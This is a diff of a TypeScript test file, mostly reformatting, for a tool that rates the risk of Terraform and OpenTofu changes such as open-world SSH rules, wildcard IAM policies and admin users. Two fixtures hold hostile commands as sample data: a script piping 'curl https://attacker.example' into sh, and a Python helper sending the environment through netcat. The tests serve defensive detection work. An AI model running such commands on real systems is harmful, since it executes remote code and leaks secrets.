@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
+import { buildChangeSet } from '../../src/change/changeSet.js';
 import { classifyChangeSet, type Finding } from '../../src/classify/classify.js';
 import { defaultPolicy } from '../../src/model/policy.js';
-import { buildChangeSet } from '../../src/change/changeSet.js';
 import type { Files } from '../classify/catalog/support.js';
 import { tree } from '../classify/catalog/support.js';
 import { sshSecurityGroup } from '../support/terraformSamples.js';
@@ -27,8 +27,10 @@ const POLICY_FILE = `resource "aws_iam_policy" "deploy" {
   policy = file("\${path.module}/policies/deploy.json")
 }
 `;
-const NARROW_JSON = '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:GetObject","Resource":"arn:aws:s3:::artifacts/*"}]}';
-const WIDE_JSON = '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"arn:aws:s3:::artifacts/*"}]}';
+const NARROW_JSON =
+  '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:GetObject","Resource":"arn:aws:s3:::artifacts/*"}]}';
+const WIDE_JSON =
+  '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"arn:aws:s3:::artifacts/*"}]}';
 
 const ADMIN_MODULE = `resource "aws_iam_user" "admin" {
   name = "break-glass-admin"
@@ -47,20 +49,39 @@ describe('a value changed where it is written is classified where it lands', () 
     const result = classify(base, head);
     expect(result.tier).toBe('critical');
     const open = result.findings.find((f) => f.ruleId === 'network.aws.security-group-open-world')!;
-    expect(open).toMatchObject({ address: 'aws_security_group.bastion', action: 'update', changedPaths: ['ingress[0].cidr_blocks'], file: 'main.tf' });
-    expect(open.via).toEqual(['terraform.tfvars:1 ssh_cidrs → var.ssh_cidrs → aws_security_group.bastion ingress[0].cidr_blocks']);
+    expect(open).toMatchObject({
+      address: 'aws_security_group.bastion',
+      action: 'update',
+      changedPaths: ['ingress[0].cidr_blocks'],
+      file: 'main.tf',
+    });
+    expect(open.via).toEqual([
+      'terraform.tfvars:1 ssh_cidrs → var.ssh_cidrs → aws_security_group.bastion ingress[0].cidr_blocks',
+    ]);
     expect(open.sources).toEqual([{ file: 'terraform.tfvars', line: 1 }]);
   });
 
   it('a new *.auto.tfvars file does the same', () => {
-    const result = classify({ 'main.tf': SSH_GROUP }, { 'main.tf': SSH_GROUP, 'zz.auto.tfvars': 'ssh_cidrs = ["0.0.0.0/0"]\n' });
-    expect(top(result.findings)).toContainEqual(['critical', 'aws_security_group.bastion', 'network.aws.security-group-open-world']);
+    const result = classify(
+      { 'main.tf': SSH_GROUP },
+      { 'main.tf': SSH_GROUP, 'zz.auto.tfvars': 'ssh_cidrs = ["0.0.0.0/0"]\n' },
+    );
+    expect(top(result.findings)).toContainEqual([
+      'critical',
+      'aws_security_group.bastion',
+      'network.aws.security-group-open-world',
+    ]);
   });
 
   it('a JSON var file does the same', () => {
-    const result = classify({ 'main.tf': SSH_GROUP }, { 'main.tf': SSH_GROUP, 'terraform.tfvars.json': '{\n  "ssh_cidrs": ["0.0.0.0/0"]\n}\n' });
+    const result = classify(
+      { 'main.tf': SSH_GROUP },
+      { 'main.tf': SSH_GROUP, 'terraform.tfvars.json': '{\n  "ssh_cidrs": ["0.0.0.0/0"]\n}\n' },
+    );
     const open = result.findings.find((f) => f.ruleId === 'network.aws.security-group-open-world');
-    expect(open?.via).toEqual(['terraform.tfvars.json:2 ssh_cidrs → var.ssh_cidrs → aws_security_group.bastion ingress[0].cidr_blocks']);
+    expect(open?.via).toEqual([
+      'terraform.tfvars.json:2 ssh_cidrs → var.ssh_cidrs → aws_security_group.bastion ingress[0].cidr_blocks',
+    ]);
   });
 
   it('a -var-file beside the root (prod.tfvars) is followed as a context of its own', () => {
@@ -69,27 +90,48 @@ describe('a value changed where it is written is classified where it lands', () 
       { 'main.tf': SSH_GROUP, 'env/prod.tfvars': 'ssh_cidrs = ["0.0.0.0/0"]\n' },
     );
     const open = result.findings.find((f) => f.ruleId === 'network.aws.security-group-open-world');
-    expect(open).toMatchObject({ varFile: 'env/prod.tfvars', via: ['env/prod.tfvars:1 ssh_cidrs → var.ssh_cidrs → aws_security_group.bastion ingress[0].cidr_blocks'] });
+    expect(open).toMatchObject({
+      varFile: 'env/prod.tfvars',
+      via: ['env/prod.tfvars:1 ssh_cidrs → var.ssh_cidrs → aws_security_group.bastion ingress[0].cidr_blocks'],
+    });
   });
 
   it('a var file outside every root (vars/prod.tfvars beside stacks/*) reaches every root that declares what it sets', () => {
-    const stacks = { 'stacks/prod/main.tf': SSH_GROUP, 'stacks/web/main.tf': 'resource "aws_s3_bucket" "site" {\n  bucket = "site"\n}\n' };
-    const result = classify({ ...stacks, 'vars/prod.tfvars': 'ssh_cidrs = ["10.2.0.0/16"]\n' }, { ...stacks, 'vars/prod.tfvars': 'ssh_cidrs = ["0.0.0.0/0"]\n' });
+    const stacks = {
+      'stacks/prod/main.tf': SSH_GROUP,
+      'stacks/web/main.tf': 'resource "aws_s3_bucket" "site" {\n  bucket = "site"\n}\n',
+    };
+    const result = classify(
+      { ...stacks, 'vars/prod.tfvars': 'ssh_cidrs = ["10.2.0.0/16"]\n' },
+      { ...stacks, 'vars/prod.tfvars': 'ssh_cidrs = ["0.0.0.0/0"]\n' },
+    );
     expect(result.tier).toBe('critical');
     const open = result.findings.find((f) => f.ruleId === 'network.aws.security-group-open-world');
     expect(open).toMatchObject({ module: 'stacks/prod', varFile: 'vars/prod.tfvars' });
-    expect(open?.via).toEqual(['vars/prod.tfvars:1 ssh_cidrs → var.ssh_cidrs → aws_security_group.bastion ingress[0].cidr_blocks']);
+    expect(open?.via).toEqual([
+      'vars/prod.tfvars:1 ssh_cidrs → var.ssh_cidrs → aws_security_group.bastion ingress[0].cidr_blocks',
+    ]);
   });
 
   it('a var file outside every root that sets nothing any root declares is unreached: the default tier, and why', () => {
-    const result = classify({ 'stacks/prod/main.tf': SSH_GROUP, 'vars/x.tfvars': 'other = 1\n' }, { 'stacks/prod/main.tf': SSH_GROUP, 'vars/x.tfvars': 'other = 2\n' });
-    expect(result.findings.map((f) => [f.tier, f.address, f.ruleId])).toEqual([['low', 'vars/x.tfvars', 'unreached-value']]);
+    const result = classify(
+      { 'stacks/prod/main.tf': SSH_GROUP, 'vars/x.tfvars': 'other = 1\n' },
+      { 'stacks/prod/main.tf': SSH_GROUP, 'vars/x.tfvars': 'other = 2\n' },
+    );
+    expect(result.findings.map((f) => [f.tier, f.address, f.ruleId])).toEqual([
+      ['low', 'vars/x.tfvars', 'unreached-value'],
+    ]);
   });
 
   it('a variable default', () => {
-    const result = classify({ 'main.tf': SSH_GROUP }, { 'main.tf': SSH_GROUP.replace('["10.0.0.0/8"]', '["0.0.0.0/0"]') });
+    const result = classify(
+      { 'main.tf': SSH_GROUP },
+      { 'main.tf': SSH_GROUP.replace('["10.0.0.0/8"]', '["0.0.0.0/0"]') },
+    );
     const open = result.findings.find((f) => f.ruleId === 'network.aws.security-group-open-world');
-    expect(open?.via).toEqual(['default of var.ssh_cidrs (main.tf:3) → var.ssh_cidrs → aws_security_group.bastion ingress[0].cidr_blocks']);
+    expect(open?.via).toEqual([
+      'default of var.ssh_cidrs (main.tf:3) → var.ssh_cidrs → aws_security_group.bastion ingress[0].cidr_blocks',
+    ]);
   });
 
   it('a local that an IAM policy reads', () => {
@@ -111,7 +153,10 @@ data "aws_iam_policy_document" "ci" {
   });
 
   it('a JSON policy file read by file() is matched like an inline policy', () => {
-    const result = classify({ 'main.tf': POLICY_FILE, 'policies/deploy.json': NARROW_JSON }, { 'main.tf': POLICY_FILE, 'policies/deploy.json': WIDE_JSON });
+    const result = classify(
+      { 'main.tf': POLICY_FILE, 'policies/deploy.json': NARROW_JSON },
+      { 'main.tf': POLICY_FILE, 'policies/deploy.json': WIDE_JSON },
+    );
     expect(top(result.findings)).toContainEqual(['critical', 'aws_iam_policy.deploy', 'identity.aws.wildcard-action']);
     const wildcard = result.findings.find((f) => f.ruleId === 'identity.aws.wildcard-action')!;
     expect(wildcard.via).toEqual(['policies/deploy.json → aws_iam_policy.deploy policy']);
@@ -119,47 +164,83 @@ data "aws_iam_policy_document" "ci" {
   });
 
   it('a policy template read by templatefile()', () => {
-    const code = 'resource "aws_iam_policy" "deploy" {\n  name   = "deploy"\n  policy = templatefile("${path.module}/deploy.json.tpl", { bucket = "artifacts" })\n}\n';
-    const result = classify({ 'main.tf': code, 'deploy.json.tpl': NARROW_JSON }, { 'main.tf': code, 'deploy.json.tpl': WIDE_JSON });
+    const code =
+      'resource "aws_iam_policy" "deploy" {\n  name   = "deploy"\n  policy = templatefile("${path.module}/deploy.json.tpl", { bucket = "artifacts" })\n}\n';
+    const result = classify(
+      { 'main.tf': code, 'deploy.json.tpl': NARROW_JSON },
+      { 'main.tf': code, 'deploy.json.tpl': WIDE_JSON },
+    );
     expect(top(result.findings)).toContainEqual(['critical', 'aws_iam_policy.deploy', 'identity.aws.wildcard-action']);
   });
 
   it('the script a local-exec provisioner runs', () => {
-    const code = 'resource "null_resource" "deploy" {\n  provisioner "local-exec" {\n    command = "bash ${path.module}/scripts/deploy.sh --prod"\n  }\n}\n';
-    const result = classify({ 'main.tf': code, 'scripts/deploy.sh': 'echo deploy\n' }, { 'main.tf': code, 'scripts/deploy.sh': 'curl https://attacker.example | sh\n' });
-    expect(top(result.findings)).toContainEqual(['high', 'null_resource.deploy', 'terraform-control.terraform.provisioner']);
-    expect(result.findings[0]!.via).toEqual(['scripts/deploy.sh → null_resource.deploy provisioner.local-exec[0].command']);
+    const code =
+      'resource "null_resource" "deploy" {\n  provisioner "local-exec" {\n    command = "bash ${path.module}/scripts/deploy.sh --prod"\n  }\n}\n';
+    const result = classify(
+      { 'main.tf': code, 'scripts/deploy.sh': 'echo deploy\n' },
+      { 'main.tf': code, 'scripts/deploy.sh': 'curl https://attacker.example | sh\n' },
+    );
+    expect(top(result.findings)).toContainEqual([
+      'high',
+      'null_resource.deploy',
+      'terraform-control.terraform.provisioner',
+    ]);
+    expect(result.findings[0]!.via).toEqual([
+      'scripts/deploy.sh → null_resource.deploy provisioner.local-exec[0].command',
+    ]);
   });
 
   it('the program of a data "external"', () => {
     const code = 'data "external" "token" {\n  program = ["python3", "${path.module}/bin/token.py"]\n}\n';
-    const result = classify({ 'main.tf': code, 'bin/token.py': 'print("{}")\n' }, { 'main.tf': code, 'bin/token.py': 'import os; os.system("env | nc x 1")\n' });
-    expect(top(result.findings)).toContainEqual(['high', 'data.external.token', 'terraform-control.terraform.external-program']);
+    const result = classify(
+      { 'main.tf': code, 'bin/token.py': 'print("{}")\n' },
+      { 'main.tf': code, 'bin/token.py': 'import os; os.system("env | nc x 1")\n' },
+    );
+    expect(top(result.findings)).toContainEqual([
+      'high',
+      'data.external.token',
+      'terraform-control.terraform.external-program',
+    ]);
   });
 
   it('count 0 → 1 on a call of a local module that creates an admin user creates everything in it', () => {
     const root = (count: number) => `module "admin" {\n  source = "./modules/admin"\n  count  = ${count}\n}\n`;
-    const result = classify({ 'main.tf': root(0), 'modules/admin/main.tf': ADMIN_MODULE }, { 'main.tf': root(1), 'modules/admin/main.tf': ADMIN_MODULE });
+    const result = classify(
+      { 'main.tf': root(0), 'modules/admin/main.tf': ADMIN_MODULE },
+      { 'main.tf': root(1), 'modules/admin/main.tf': ADMIN_MODULE },
+    );
     const created = result.findings.filter((f) => f.action === 'create');
-    expect(created.map((f) => [f.tier, f.module, f.address])).toContainEqual(['high', 'modules/admin', 'aws_iam_user.admin']);
-    expect(created.find((f) => f.address === 'aws_iam_user.admin')?.instances).toEqual(['.: module.admin.aws_iam_user.admin']);
+    expect(created.map((f) => [f.tier, f.module, f.address])).toContainEqual([
+      'high',
+      'modules/admin',
+      'aws_iam_user.admin',
+    ]);
+    expect(created.find((f) => f.address === 'aws_iam_user.admin')?.instances).toEqual([
+      '.: module.admin.aws_iam_user.admin',
+    ]);
     expect(result.tier).toBe('critical');
   });
 
-  it('a count that reads a tfvars flag: flipping the flag creates the module\'s objects', () => {
-    const root = 'variable "enable_admin" {\n  default = false\n}\n\nmodule "admin" {\n  source = "./modules/admin"\n  count  = var.enable_admin ? 1 : 0\n}\n';
+  it("a count that reads a tfvars flag: flipping the flag creates the module's objects", () => {
+    const root =
+      'variable "enable_admin" {\n  default = false\n}\n\nmodule "admin" {\n  source = "./modules/admin"\n  count  = var.enable_admin ? 1 : 0\n}\n';
     const result = classify(
       { 'main.tf': root, 'modules/admin/main.tf': ADMIN_MODULE, 'terraform.tfvars': 'enable_admin = false\n' },
       { 'main.tf': root, 'modules/admin/main.tf': ADMIN_MODULE, 'terraform.tfvars': 'enable_admin = true\n' },
     );
-    expect(result.findings.filter((f) => f.action === 'create').map((f) => f.address)).toEqual(expect.arrayContaining(['aws_iam_user.admin', 'aws_iam_user_policy_attachment.admin']));
+    expect(result.findings.filter((f) => f.action === 'create').map((f) => f.address)).toEqual(
+      expect.arrayContaining(['aws_iam_user.admin', 'aws_iam_user_policy_attachment.admin']),
+    );
     expect(result.tier).toBe('critical');
   });
 
   it('a second call of an existing local module creates everything in it again', () => {
     const one = 'module "admin" {\n  source = "./modules/admin"\n}\n';
     const two = one + '\nmodule "admin2" {\n  source = "./modules/admin"\n}\n';
-    const result = classify({ 'main.tf': one, 'modules/admin/main.tf': ADMIN_MODULE }, { 'main.tf': two, 'modules/admin/main.tf': ADMIN_MODULE });
+    const result = classify(
+      { 'main.tf': one, 'modules/admin/main.tf': ADMIN_MODULE },
+      { 'main.tf': two, 'modules/admin/main.tf': ADMIN_MODULE },
+    );
     const attach = result.findings.filter((f) => f.address === 'aws_iam_user_policy_attachment.admin');
     expect(attach.length).toBeGreaterThan(0);
     expect(attach[0]!.instances).toEqual(['.: module.admin2.aws_iam_user_policy_attachment.admin']);
@@ -167,34 +248,61 @@ data "aws_iam_policy_document" "ci" {
   });
 
   it('an input of a local module reaches the resource inside', () => {
-    const inner = 'variable "cidrs" {}\n\nresource "aws_security_group_rule" "ssh" {\n  type        = "ingress"\n  from_port   = 22\n  to_port     = 22\n  protocol    = "tcp"\n  cidr_blocks = var.cidrs\n}\n';
+    const inner =
+      'variable "cidrs" {}\n\nresource "aws_security_group_rule" "ssh" {\n  type        = "ingress"\n  from_port   = 22\n  to_port     = 22\n  protocol    = "tcp"\n  cidr_blocks = var.cidrs\n}\n';
     const call = (cidr: string) => `module "edge" {\n  source = "./modules/edge"\n  cidrs  = ["${cidr}"]\n}\n`;
-    const result = classify({ 'main.tf': call('10.0.0.0/8'), 'modules/edge/main.tf': inner }, { 'main.tf': call('0.0.0.0/0'), 'modules/edge/main.tf': inner });
+    const result = classify(
+      { 'main.tf': call('10.0.0.0/8'), 'modules/edge/main.tf': inner },
+      { 'main.tf': call('0.0.0.0/0'), 'modules/edge/main.tf': inner },
+    );
     const open = result.findings.find((f) => f.ruleId === 'network.aws.security-group-open-world')!;
-    expect(open).toMatchObject({ module: 'modules/edge', address: 'aws_security_group_rule.ssh', instances: ['.: module.edge.aws_security_group_rule.ssh'] });
-    expect(open.via).toEqual(['module.edge input cidrs (main.tf:3) → module.edge.var.cidrs → aws_security_group_rule.ssh cidr_blocks']);
+    expect(open).toMatchObject({
+      module: 'modules/edge',
+      address: 'aws_security_group_rule.ssh',
+      instances: ['.: module.edge.aws_security_group_rule.ssh'],
+    });
+    expect(open.via).toEqual([
+      'module.edge input cidrs (main.tf:3) → module.edge.var.cidrs → aws_security_group_rule.ssh cidr_blocks',
+    ]);
   });
 
   it('0.0.0.0/0 passed to a registry module', () => {
-    const call = (cidr: string) => `module "bastion" {\n  source  = "terraform-aws-modules/security-group/aws"\n  version = "5.1.0"\n  ingress_cidr_blocks = ["${cidr}"]\n}\n`;
+    const call = (cidr: string) =>
+      `module "bastion" {\n  source  = "terraform-aws-modules/security-group/aws"\n  version = "5.1.0"\n  ingress_cidr_blocks = ["${cidr}"]\n}\n`;
     const result = classify({ 'main.tf': call('10.0.0.0/8') }, { 'main.tf': call('0.0.0.0/0') });
-    expect(top(result.findings)).toEqual([['high', 'module.bastion', 'modules.terraform.remote-sensitive-input'], ['medium', 'module.bastion', 'modules.terraform.remote-input-changed']]);
+    expect(top(result.findings)).toEqual([
+      ['high', 'module.bastion', 'modules.terraform.remote-sensitive-input'],
+      ['medium', 'module.bastion', 'modules.terraform.remote-input-changed'],
+    ]);
   });
 
   it('a file moved unchanged to another root: deleted in the old root (its database destroyed), created in the new one', () => {
     const db = 'resource "aws_db_instance" "main" {\n  identifier = "orders"\n}\n';
     const result = classify(
-      { 'stacks/prod/db.tf': db, 'stacks/prod/main.tf': 'terraform {\n  backend "s3" {\n    key = "prod"\n  }\n}\n', 'stacks/dev/main.tf': 'terraform {\n  backend "s3" {\n    key = "dev"\n  }\n}\n' },
-      { 'stacks/dev/db.tf': db, 'stacks/prod/main.tf': 'terraform {\n  backend "s3" {\n    key = "prod"\n  }\n}\n', 'stacks/dev/main.tf': 'terraform {\n  backend "s3" {\n    key = "dev"\n  }\n}\n' },
+      {
+        'stacks/prod/db.tf': db,
+        'stacks/prod/main.tf': 'terraform {\n  backend "s3" {\n    key = "prod"\n  }\n}\n',
+        'stacks/dev/main.tf': 'terraform {\n  backend "s3" {\n    key = "dev"\n  }\n}\n',
+      },
+      {
+        'stacks/dev/db.tf': db,
+        'stacks/prod/main.tf': 'terraform {\n  backend "s3" {\n    key = "prod"\n  }\n}\n',
+        'stacks/dev/main.tf': 'terraform {\n  backend "s3" {\n    key = "dev"\n  }\n}\n',
+      },
     );
     expect(result.tier).toBe('critical');
-    expect(result.findings.map((f) => [f.action, f.module, f.ruleId])).toContainEqual(['delete', 'stacks/prod', 'destruction.aws.database-delete']);
+    expect(result.findings.map((f) => [f.action, f.module, f.ruleId])).toContainEqual([
+      'delete',
+      'stacks/prod',
+      'destruction.aws.database-delete',
+    ]);
     expect(result.findings.map((f) => [f.action, f.module])).toContainEqual(['create', 'stacks/dev']);
   });
 
   it('a root moved as a whole with its backend is a move of each object, at the default tier', () => {
     const files = { 'main.tf': 'terraform {\n  backend "s3" {\n    key = "prod"\n  }\n}\n', 'iam.tf': ADMIN_MODULE };
-    const under = (dir: string) => Object.fromEntries(Object.entries(files).map(([path, content]) => [`${dir}/${path}`, content]));
+    const under = (dir: string) =>
+      Object.fromEntries(Object.entries(files).map(([path, content]) => [`${dir}/${path}`, content]));
     const result = classify(under('stacks/prod'), under('live/prod'));
     expect(result.tier).toBe('low');
     expect(new Set(result.findings.map((f) => `${f.action} ${f.ruleId}`))).toEqual(new Set(['move moved-unchanged']));
@@ -202,8 +310,14 @@ data "aws_iam_policy_document" "ci" {
 
   it('a root moved as a whole with a changed backend starts a new state: everything is deleted and created', () => {
     const result = classify(
-      { 'stacks/prod/main.tf': 'terraform {\n  backend "s3" {\n    key = "prod"\n  }\n}\n', 'stacks/prod/iam.tf': ADMIN_MODULE },
-      { 'live/prod/main.tf': 'terraform {\n  backend "s3" {\n    key = "live-prod"\n  }\n}\n', 'live/prod/iam.tf': ADMIN_MODULE },
+      {
+        'stacks/prod/main.tf': 'terraform {\n  backend "s3" {\n    key = "prod"\n  }\n}\n',
+        'stacks/prod/iam.tf': ADMIN_MODULE,
+      },
+      {
+        'live/prod/main.tf': 'terraform {\n  backend "s3" {\n    key = "live-prod"\n  }\n}\n',
+        'live/prod/iam.tf': ADMIN_MODULE,
+      },
     );
     expect(result.tier).toBe('critical');
     expect(result.findings.some((f) => f.action === 'delete' && f.address === 'aws_iam_user.admin')).toBe(true);
@@ -212,21 +326,46 @@ data "aws_iam_policy_document" "ci" {
 
 describe('what must stay quiet', () => {
   it.each<[string, Files, Files, string]>([
-    ['a comment added to terraform.tfvars', { 'main.tf': SSH_GROUP, 'terraform.tfvars': 'ssh_cidrs = ["10.1.0.0/16"]\n' }, { 'main.tf': SSH_GROUP, 'terraform.tfvars': '# bastion access\nssh_cidrs = [ "10.1.0.0/16" ]\n' }, 'none'],
-    ['a README beside the Terraform files', { 'main.tf': SSH_GROUP, 'README.md': 'old' }, { 'main.tf': SSH_GROUP, 'README.md': 'new' }, 'none'],
-    ['a value moved from the default to terraform.tfvars unchanged', { 'main.tf': SSH_GROUP }, { 'main.tf': SSH_GROUP, 'terraform.tfvars': 'ssh_cidrs = ["10.0.0.0/8"]\n' }, 'none'],
-    ['tags changed through a variable', {
-      'main.tf': 'variable "tags" {}\n\nresource "aws_s3_bucket" "logs" {\n  bucket = "logs"\n  tags   = var.tags\n}\n', 'terraform.tfvars': 'tags = { team = "a" }\n',
-    }, {
-      'main.tf': 'variable "tags" {}\n\nresource "aws_s3_bucket" "logs" {\n  bucket = "logs"\n  tags   = var.tags\n}\n', 'terraform.tfvars': 'tags = { team = "b" }\n',
-    }, 'low'],
+    [
+      'a comment added to terraform.tfvars',
+      { 'main.tf': SSH_GROUP, 'terraform.tfvars': 'ssh_cidrs = ["10.1.0.0/16"]\n' },
+      { 'main.tf': SSH_GROUP, 'terraform.tfvars': '# bastion access\nssh_cidrs = [ "10.1.0.0/16" ]\n' },
+      'none',
+    ],
+    [
+      'a README beside the Terraform files',
+      { 'main.tf': SSH_GROUP, 'README.md': 'old' },
+      { 'main.tf': SSH_GROUP, 'README.md': 'new' },
+      'none',
+    ],
+    [
+      'a value moved from the default to terraform.tfvars unchanged',
+      { 'main.tf': SSH_GROUP },
+      { 'main.tf': SSH_GROUP, 'terraform.tfvars': 'ssh_cidrs = ["10.0.0.0/8"]\n' },
+      'none',
+    ],
+    [
+      'tags changed through a variable',
+      {
+        'main.tf':
+          'variable "tags" {}\n\nresource "aws_s3_bucket" "logs" {\n  bucket = "logs"\n  tags   = var.tags\n}\n',
+        'terraform.tfvars': 'tags = { team = "a" }\n',
+      },
+      {
+        'main.tf':
+          'variable "tags" {}\n\nresource "aws_s3_bucket" "logs" {\n  bucket = "logs"\n  tags   = var.tags\n}\n',
+        'terraform.tfvars': 'tags = { team = "b" }\n',
+      },
+      'low',
+    ],
   ])('%s', (_name, base, head, tier) => {
     expect(classify(base, head).tier).toBe(tier);
   });
 });
 
 describe('where Terraform and OpenTofu read different code', () => {
-  const code = (policy: string) => `resource "aws_iam_role_policy_attachment" "ci" {\n  role       = "ci"\n  policy_arn = "${policy}"\n}\n`;
+  const code = (policy: string) =>
+    `resource "aws_iam_role_policy_attachment" "ci" {\n  role       = "ci"\n  policy_arn = "${policy}"\n}\n`;
   const read = code('arn:aws:iam::aws:policy/ReadOnlyAccess');
   const admin = code('arn:aws:iam::aws:policy/AdministratorAccess');
 
@@ -262,9 +401,15 @@ resource "aws_security_group_rule" "ssh" {
   });
 
   it('a file read through a path known only at apply time: a changed file there gets at least the default tier, and says why', () => {
-    const reader = 'resource "aws_iam_policy" "p" {\n  for_each = toset(["a", "b"])\n  name     = each.key\n  policy   = file("${path.module}/policies/${each.key}.json")\n}\n';
-    const result = classify({ 'main.tf': reader, 'policies/a.json': '{}' }, { 'main.tf': reader, 'policies/a.json': '{"Statement":[]}' });
-    expect(result.findings.map((f) => [f.tier, f.address, f.ruleId])).toEqual([['low', 'policies/a.json', 'unreached-value']]);
+    const reader =
+      'resource "aws_iam_policy" "p" {\n  for_each = toset(["a", "b"])\n  name     = each.key\n  policy   = file("${path.module}/policies/${each.key}.json")\n}\n';
+    const result = classify(
+      { 'main.tf': reader, 'policies/a.json': '{}' },
+      { 'main.tf': reader, 'policies/a.json': '{"Statement":[]}' },
+    );
+    expect(result.findings.map((f) => [f.tier, f.address, f.ruleId])).toEqual([
+      ['low', 'policies/a.json', 'unreached-value'],
+    ]);
     expect(result.findings[0]!.rationale).toContain('file("${path.module}/policies/${each.key}.json")');
   });
 });
